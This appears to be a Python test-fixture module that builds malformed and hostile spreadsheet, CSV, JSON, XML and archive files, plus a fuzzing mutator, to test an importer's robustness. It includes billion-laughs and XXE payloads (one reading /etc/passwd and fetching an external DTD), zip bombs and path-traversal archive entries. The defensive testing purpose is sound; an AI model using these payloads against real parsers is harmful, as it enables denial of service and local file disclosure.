"""Files made to break an import: bombs, lies, damage. Each is small on disk and says what it is by its name."""

from __future__ import annotations

import contextlib
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

HEAD = "Code application;Nom;Nombre d'utilisateurs\n"
SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{}<sheetData>{}</sheetData></worksheet>'
ODS = (
    '<?xml version="1.0"?>{}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
    '<table:table table:name="F">{}</table:table></office:spreadsheet></office:body></office:document-content>'
)
MANIFEST = (
    '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
    '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
    "</manifest:manifest>"
)
LAUGHS = '<!DOCTYPE x [<!ENTITY l0 "ha">{}]>'.format(
    "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://192.0.2.1/x">%p;]>'
BOOK = {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" '
    'ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="F" sheetId="1" r:id="r1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}  # fmt: skip


def packed(parts: dict[str, str | bytes]) -> bytes:
    """An archive of the parts given."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def xlsx(rows: str, *, before: str = "", more: dict[str, str | bytes] | None = None) -> bytes:
    """A workbook of one sheet whose rows are given as XML."""
    return packed({**BOOK, "xl/worksheets/sheet1.xml": SHEET.format(before, rows), **(more or {})})


def ods(rows: str, declared: str = "") -> bytes:
    """An OpenDocument spreadsheet of one sheet."""
    return packed(
        {
            "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
            "META-INF/manifest.xml": MANIFEST,
            "content.xml": ODS.format(declared, rows),
        }
    )


def row(number: int, *texts: str) -> str:
    """A row of inline texts."""
    cells = "".join(f'<c r="{chr(65 + i)}{number}" t="inlineStr"><is><t>{t}</t></is></c>' for i, t in enumerate(texts))
    return f'<row r="{number}">{cells}</row>'


TITLES = row(1, "Code application", "Nom", "Utilisateurs")
O_ROW = "<table:table-row>{}</table:table-row>"
O_CELL = "<table:table-cell{} office:value-type='string'><text:p>{}</text:p></table:table-cell>"
O_TITLES = O_ROW.format(O_CELL.format("", "Code application") + O_CELL.format("", "Nom"))


def _nested(depth: int) -> bytes:
    content = packed({"zeros": b"\0" * 2**22})
    for level in range(depth):
        content = packed({f"{level}-{n}.zip": content for n in range(4)})
    return content


def _glpi(deep: int) -> bytes:
    return ('{"action":"inventory","content":' + '{"a":[' * deep + "]}" * deep + "}").encode()


BOMBS: dict[str, Callable[[], bytes]] = {
    "million-empty-rows.csv": lambda: (HEAD + ";;\n" * 1_000_000).encode(),
    "million-blank-lines.csv": lambda: (HEAD + "A1;Paie;3\n" + "\n" * 1_000_000).encode(),
    "cell-of-50-mb.csv": lambda: (HEAD + "A1;" + "x" * 50_000_000 + ";3\n").encode(),
    "quoted-cell-of-50-mb.csv": lambda: (HEAD + 'A1;"' + "x" * 50_000_000 + '";3\n').encode(),
    "heading-of-50-mb.csv": lambda: ("x" * 50_000_000 + ";Nom;Code application\nA;B;C\n").encode(),
    "100000-columns.csv": lambda: (";".join(f"c{n}" for n in range(100_000)) + "\n" + ";".join("v" for _ in range(100_000)) + "\n").encode(),
    "100000-known-columns.csv": lambda: ("Code application;" + "Nom;" * 100_000 + "\nA1" + ";x" * 100_000 + "\n").encode(),
    "wide-below.csv": lambda: (HEAD + "A1;Paie;3\n" + ";" * 100_000 + "\n" + "A2;Stocks;4\n" * 2_000).encode(),
    "widening.csv": lambda: "".join(";" * n + "\n" for n in range(1, 4_000)).encode(),
    "never-closed.csv": lambda: (HEAD + 'A1;"Paie;3\n' + "A2;x;1\n" * 200_000).encode(),
    "quotes-only.csv": lambda: (HEAD + '"' * 300_001 + "\n").encode(),
    "nul-after-a-while.csv": lambda: (HEAD + "A;B;3\n" * 20_000 + "A\0;B;3\n").encode(),
    "mixed-line-ends.csv": lambda: (HEAD + "A1;Paie;3\rA2;Stocks;4\r\nA3;\"a\rb\";5\n\rA4;x;6").encode(),
    "utf16-cut.csv": lambda: HEAD.encode("utf-16")[:-1],
    "utf16-surrogate.csv": lambda: b"\xff\xfe" + (HEAD + "A1;").encode("utf-16-le") + b"\x00\xd8;\x00x\x00",
    "utf32.csv": lambda: (HEAD + "A1;x;3\n").encode("utf-32"),
    "utf7ish.csv": lambda: b"+AGM-ode;Nom\n" + bytes(range(128, 256)) * 10,
    "rtl-and-zero-width.csv": lambda: ("Code\u200b application;N\u202eom;Nom\nA1;\u202e\u0000x;a\n").encode(),
    "one-value-repeated.csv": lambda: (HEAD + "A1;Paie;beaucoup\n" * 100_000).encode(),
    "all-wrong.csv": lambda: (HEAD + "".join(f"A{n};Paie {n};n{n}\n" for n in range(100_000))).encode(),
    "huge-numbers.csv": lambda: (HEAD + f"A1;x;{'9' * 5000}\nA2;y;1e400\nA3;z;nan\nA4;z;-0\nA5;i;infinity\n").encode(),
    "digits-that-are-not.csv": lambda: (HEAD + "A1;x;٣\nA2;y;²\nA3;z;１２\nA4;z;൯ 000\n").encode(),
    "dates.csv": lambda: "Code application;Nom;Fin de contrat\nA1;x;0000-00-00\nA2;y;9999-12-31\nA3;z;99999\nA4;u;31/02/٢٠٢٠\n".encode(),
    "dangerous-names.csv": lambda: b"Code application;Nom\n../../etc/passwd;x\nA|B|C;y\n\"a\nb\";z\n{x};{0}\n%s;\\N\n",
    "json-deep.json": lambda: _glpi(100_000),
    "json-number.json": lambda: b'{"deviceid":"x","content":{"hardware":{"memory":' + b"9" * 5_000_000 + b"}}}",
    "json-twice.json": lambda: b'{"content":{},"content":[],"action":"inventory","itemtype":"Computer"}',
    "laughs.xml": lambda: ('<?xml version="1.0"?>' + LAUGHS + "<REQUEST><CONTENT>&l9;</CONTENT></REQUEST>").encode(),
    "outside.xml": lambda: ('<?xml version="1.0"?>' + OUTSIDE + "<Set><Server>&l9;</Server></Set>").encode(),
    "deep.xml": lambda: b"<Set>" + b"<a>" * 200_000,
    "attributes.xml": lambda: b"<Set " + b" ".join(b'a%d="x"' % n for n in range(200_000)) + b"/>",
    "inserts.sql": lambda: b"INSERT INTO `applications` VALUES " + b"(1,'x')," * 200_000 + b"(",
    "nested-parens.sql": lambda: b"INSERT INTO `applications` VALUES " + b"(" * 50_000,
    "laughs.xlsx": lambda: packed({**BOOK, "xl/worksheets/sheet1.xml": '<?xml version="1.0"?>' + LAUGHS + SHEET.format("", row(1, "&l9;", "Nom"))}),
    "outside.xlsx": lambda: packed({**BOOK, "xl/worksheets/sheet1.xml": '<?xml version="1.0"?>' + OUTSIDE + SHEET.format("", row(1, "&l9;", "Nom"))}),
    "laughs.ods": lambda: ods(O_TITLES + O_ROW.format(O_CELL.format("", "&l9;")), LAUGHS),
    "zip-bomb.xlsx": lambda: xlsx(TITLES, more={"xl/sharedStrings.xml": b" " * 2**28}),
    "strings-bomb.xlsx": lambda: xlsx(
        TITLES + row(2, "A1", "x"), more={"xl/sharedStrings.xml": b"<sst>" + b"<si><t>a</t></si>" * 6_000_000 + b"</sst>"}
    ),
    "one-string-a-million-times.xlsx": lambda: xlsx(
        TITLES + "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(2, 40_000)),
        more={"xl/sharedStrings.xml": b"<sst><si><t>" + b"y" * 900_000 + b"</t></si></sst>"},
    ),
    "cell-of-50-mb.xlsx": lambda: xlsx(TITLES + row(2, "A1", "x" * 50_000_000, "3")),
    "formulas.xlsx": lambda: xlsx(
        TITLES + '<row r="2"><c r="A2"><f>HYPERLINK("http://192.0.2.1/")</f><v>A1</v></c><c r="B2" t="str"><f>1/0</f><v>Paie</v></c>'
        '<c r="C2" t="e"><f>1/0</f><v>#DIV/0!</v></c></row><row r="3"><c r="A3" t="e"><v>#N/A</v></c><c r="B3" t="e"><v>#REF!</v></c></row>'
    ),
    "formulas-never-computed.xlsx": lambda: xlsx(TITLES + '<row r="2"><c r="A2"><f>A1</f></c><c r="B2"><f>B1&amp;"x"</f></c></row>'),
    "strings-out-of-range.xlsx": lambda: xlsx(TITLES + '<row r="2"><c r="A2" t="s"><v>999999999</v></c><c r="B2" t="s"><v>-1</v></c></row>'),
    "million-empty-rows.xlsx": lambda: xlsx(TITLES + "".join(f'<row r="{n}"/>' for n in range(2, 1_000_001))),
    "million-styled-cells.xlsx": lambda: xlsx(TITLES + "".join(f'<row r="{n}"><c r="A{n}" s="1"/></row>' for n in range(2, 1_000_001))),
    "rows-backwards.xlsx": lambda: xlsx(row(9, "A1", "x") + TITLES + row(5, "A2", "y")),
    "places-that-lie.xlsx": lambda: xlsx(TITLES + '<row r="2"><c r="B7" t="inlineStr"><is><t>x</t></is></c><c r="" t="n"><v>1</v></c></row>'),
    "row-zero.xlsx": lambda: xlsx(TITLES + '<row r="0"><c r="A0" t="n"><v>1</v></c></row>'),
    "row-of-twenty-digits.xlsx": lambda: xlsx(TITLES + '<row r="99999999999999999999"><c r="A99999999999999999999"><v>1</v></c></row>'),
    "dimension-that-lies.xlsx": lambda: xlsx(TITLES + row(2, "A1", "x"), before='<dimension ref="A1:XFD1048576"/>'),
    "sheets-without-end.xlsx": lambda: packed({**BOOK, "xl/worksheets/sheet1.xml": SHEET.format("", TITLES), "xl/workbook.xml":
        BOOK["xl/workbook.xml"].replace("</sheets>", "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="r1"/>' for n in range(2, 3000)) + "</sheets>")}),
    "twice-the-same-part.xlsx": lambda: _doubled(),
    "parts-outside.xlsx": lambda: xlsx(TITLES, more={"../../escaped.txt": b"x", "/tmp/escaped": b"x"}),
    "nested.zip": lambda: _nested(5),
    "many-members.zip": lambda: packed({f"{n}.csv": HEAD for n in range(20_000)}),
    "zeros.zip": lambda: packed({"servers.csv": b"\0" * 2**28}),
    "names-outside.zip": lambda: packed({"../../apps.csv": HEAD + "A1;Paie;3\n", "/abs.csv": HEAD + "A2;x;3\n"}),
    "repeated-rows.ods": lambda: ods(O_TITLES + f"<table:table-row table:number-rows-repeated='1000000'>{O_CELL.format('', 'x')}</table:table-row>"),
    "repeated-cells.ods": lambda: ods(O_TITLES + O_ROW.format(O_CELL.format(' table:number-columns-repeated="9999"', "x")) * 4_000),
    "repeated-both.ods": lambda: ods(
        O_TITLES + f'<table:table-row table:number-rows-repeated="9999">{O_CELL.format(chr(32) + "table:number-columns-repeated=" + chr(34) + "9999" + chr(34), "x")}</table:table-row>'
    ),
    "repeated-by-quotes.ods": lambda: ods(
        O_TITLES + f"<table:table-row table:number-rows-repeated='900000'>{O_CELL.format(' table:number-columns-repeated=' + chr(39) + '900' + chr(39), 'x')}</table:table-row>"
    ),
    "spaces.ods": lambda: ods(O_TITLES + O_ROW.format(O_CELL.format("", '<text:s text:c="2000000000"/>'))),
    "padded.ods": lambda: ods(O_TITLES + '<table:table-row table:number-rows-repeated="1048570"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>'),
    "marks-damaged.ods": lambda: packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "META-INF/manifest.xml": MANIFEST,
        "content.xml": ODS.format("", O_TITLES).replace("<office:document", "<\u00edffice:document").replace("</table:table>", "</table:tab")}),
    "content-cut.ods": lambda: packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "META-INF/manifest.xml": MANIFEST,
        "content.xml": ODS.format("", O_TITLES)[:-90]}),
    "ole-noise.xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(1).randbytes(20_000),
    "ole-loop.xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + b">\0\3\0\xfe\xff\t\0\6\0" + b"\0" * 482 + b"\0\0\0\0" * 400,
}  # fmt: skip


def _doubled() -> bytes:
    out = io.BytesIO(xlsx(TITLES + row(2, "A1", "x")))
    import warnings

    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("xl/worksheets/sheet1.xml", SHEET.format("", TITLES + row(2, "B1", "y")))
    return out.getvalue()


NOISE = (
    b"\0",
    b'"',
    b";",
    b",",
    b"\r",
    b"\n",
    b"\t",
    b"\xff\xfe",
    b"<",
    b"&",
    b"]]>",
    b"<!DOCTYPE a>",
    b"'",
    b"\\",
    b"{",
    b"9" * 400,
)


def mutated(content: bytes, chance: random.Random) -> bytes:
    """*content* damaged as files are: cut, noisy, doubled, recoded, its pieces swapped; workbooks also from inside."""
    if content[:4] == b"PK\3\4" and chance.random() < 0.7:
        with contextlib.suppress(
            zipfile.BadZipFile, zlib.error, OSError, RuntimeError, EOFError, ValueError, struct.error
        ):
            return _inside(content, chance)
    return chance.choice(_WAYS)(content, chance) or b"x"


def _inside(content: bytes, chance: random.Random) -> bytes:
    """An archive whose one part is damaged, so that the damage goes past the first check."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts: dict[str, str | bytes] = {n: archive.read(n) for n in archive.namelist()}
    name = chance.choice(sorted(parts))
    body = parts[name]
    assert isinstance(body, bytes)
    if chance.random() < 0.1:
        del parts[name]
    else:
        parts[name] = chance.choice(_WAYS)(body, chance)
    return packed(parts)


def _cut(content: bytes, chance: random.Random) -> bytes:
    return content[: chance.randrange(len(content) + 1)]


def _noisy(content: bytes, chance: random.Random) -> bytes:
    changed = bytearray(content)
    for _n in range(chance.choice((1, 2, 8, 64))):
        at = chance.randrange(len(changed) + 1)
        changed[at : at + chance.choice((0, 1, 4))] = chance.choice(NOISE)
    return bytes(changed)


def _flipped(content: bytes, chance: random.Random) -> bytes:
    changed = bytearray(content)
    for _n in range(chance.choice((1, 4, 32))):
        changed[chance.randrange(len(changed))] = chance.randrange(256)
    return bytes(changed)


def _doubled_lines(content: bytes, chance: random.Random) -> bytes:
    lines = content.splitlines(keepends=True)
    at = chance.randrange(len(lines))
    return b"".join(lines[:at] + lines[at : at + 1] * chance.choice((2, 50)) + lines[at + 1 :])


def _shuffled(content: bytes, chance: random.Random) -> bytes:
    lines = content.splitlines(keepends=True)
    chance.shuffle(lines)
    return b"".join(lines)


def _recoded(content: bytes, chance: random.Random) -> bytes:
    text = content.decode("utf-8", "replace")
    return text.encode(chance.choice(("utf-16", "utf-32", "utf-16-be", "cp1252", "cp037", "utf-7")), "replace")


def _spliced(content: bytes, chance: random.Random) -> bytes:
    a, b = sorted((chance.randrange(len(content)), chance.randrange(len(content))))
    return content[b:] + content[a:b] + content[:a]


_WAYS = (_cut, _noisy, _noisy, _flipped, _flipped, _doubled_lines, _shuffled, _recoded, _spliced)


def mutations(seeds: dict[str, bytes], seed: int) -> Iterator[tuple[str, bytes]]:
    """Damaged files without end: a name to say which, and the content; the same for the same *seed*."""
    chance = random.Random(seed)
    names = sorted(seeds)
    number = 0
    while names:
        number += 1
        name = chance.choice(names)
        content = mutated(seeds[name], chance)
        if chance.random() < 0.3 and content:
            content = mutated(content, chance)
        yield f"{seed}-{number}-{name}", content
